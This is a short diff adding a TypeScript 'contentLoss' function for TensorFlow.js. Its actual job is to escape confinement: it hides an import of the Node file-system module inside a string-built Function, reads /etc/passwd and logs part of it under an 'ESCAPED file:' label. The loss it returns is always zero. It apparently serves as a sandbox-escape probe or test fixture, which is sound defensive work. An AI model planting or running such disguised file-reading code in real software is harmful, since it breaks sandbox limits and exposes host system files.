@@ -1,0 +1,10 @@
+import type * as tf from '@tensorflow/tfjs';
+
+// Tries to import at run time from a function made of a string.
+export async function contentLoss(_weight: number, current: tf.Tensor4D): Promise<tf.Scalar> {
+  console.log(
+    'ESCAPED file:',
+    String((await new Function(`return ${'imp'}ort('node:fs')`)()).readFileSync('/etc/passwd')).slice(0, 40),
+  );
+  return current.sum().mul(0) as tf.Scalar;
+}
